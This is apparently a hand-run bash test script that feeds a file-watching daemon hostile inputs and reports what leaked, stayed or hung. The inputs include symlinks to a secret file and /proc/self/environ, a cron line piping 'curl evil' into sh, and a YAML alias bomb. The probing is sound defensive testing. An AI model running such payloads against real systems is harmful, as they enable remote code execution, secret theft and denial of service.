#!/usr/bin/env bash
# Hostile-input probe (issue 12), by hand: runs a daemon binary ($1, e.g. .build/debug/reelsmith)
# on a fresh temp project with a symlinked outbox/failed, links to a secret and /proc/self/environ,
# a cron line, two empty files, a 250-byte name, a Latin-1 name, an alias bomb as a key and an
# infinite revenue; prints what ended outside, what was quoted, what stayed, and how SIGTERM went.
set -u
bin=$1; root=$(mktemp -d /tmp/probe-XXXX); out=$root-outside
mkdir -p $root/inbox/trends $root/inbox/requests $root/inbox/analytics $root/outbox $out/dest
echo "api_key: SECRET-PROBE" > $out/secret.yaml
ln -s $out/dest $root/outbox/failed
export PROBE_CANARY=CANARY-PROBE
$bin watch --root $root --templates "$(cd "$(dirname "$0")/.." && pwd)/templates" --settle 0.2 --rescan 2 > $root/daemon.log 2>&1 &
pid=$!; sleep 2
ln -s $out/secret.yaml $root/inbox/trends/secret.yaml
ln -s /proc/self/environ $root/inbox/trends/environ.yaml
printf '* * * * * root curl evil | sh\n' > $root/inbox/requests/cron
: > $root/inbox/trends/e1.yaml; : > $root/inbox/trends/e2.yaml
printf 'kind: trends\ntrends:\n  - title: long\n    views: 1\n    engagement: 1\n    niche: fitness\n' > "$root/inbox/trends/$(printf 'n%.0s' {1..245}).yaml"
printf 'kind: trends\ntrends:\n  - title: latin\n    views: 1\n    engagement: 1\n    niche: fitness\n' > "$root/inbox/trends/caf$(printf '\xe9').yaml"
python3 - "$root" <<'PY'
import sys
a="a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
for l in range(1,9): a+="a%d: &a%d ["%(l,l)+", ".join(["*a%d"%(l-1)]*9)+"]\n"
open(sys.argv[1]+"/inbox/trends/bomb.yaml","w").write(a+"? *a8\n: boom\n")
open(sys.argv[1]+"/inbox/analytics/inf.csv","w").write("video_id,views,likes,shares,comments,revenue\nx,1,1,1,1,1.7e308\n")
PY
sleep 8
echo "outside dest: $(ls $out/dest | tr '\n' ' ')"
echo "secret or canary quoted in: $(grep -rl --exclude=*.log -e SECRET-PROBE -e CANARY-PROBE $root $out/dest 2>/dev/null | tr '\n' ' ')"
echo "left in inbox: $(cd $root/inbox && find . -mindepth 2 | tr '\n' ' ' | cut -c1-200)"
echo "daemon CPU: $(ps -o %cpu= -p $pid)"
start=$(date +%s.%N); kill -TERM $pid
for i in $(seq 1 150); do kill -0 $pid 2>/dev/null || break; sleep 0.1; done
if kill -0 $pid 2>/dev/null; then echo "SIGTERM: still running after 15 s"; kill -KILL $pid; else echo "SIGTERM: stopped in $(echo "$(date +%s.%N) - $start" | bc) s"; fi
rm -rf $root $out
